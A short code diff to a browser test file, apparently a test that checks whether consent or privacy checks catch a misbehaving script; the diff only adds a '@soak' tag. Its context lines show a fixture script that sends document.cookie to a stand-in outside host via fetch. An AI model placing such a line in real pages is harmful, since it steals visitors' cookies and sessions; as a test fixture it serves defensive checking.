@@ -35,7 +35,9 @@ localStorage.setItem("visited", "1");
 void fetch("https://collect.example/?c=" + encodeURIComponent(document.cookie));
 `;
 
-test("the checks find what is wrong with a script that also does other things", async ({ browser }) => {
+test("the checks find what is wrong with a script that also does other things", { tag: "@soak" }, async ({
+	browser,
+}) => {
 	const task = tasks.find(({ name }) => name === "shop-consent")?.task;
 	if (!task) throw new Error("The task is gone");
 	const plan = {
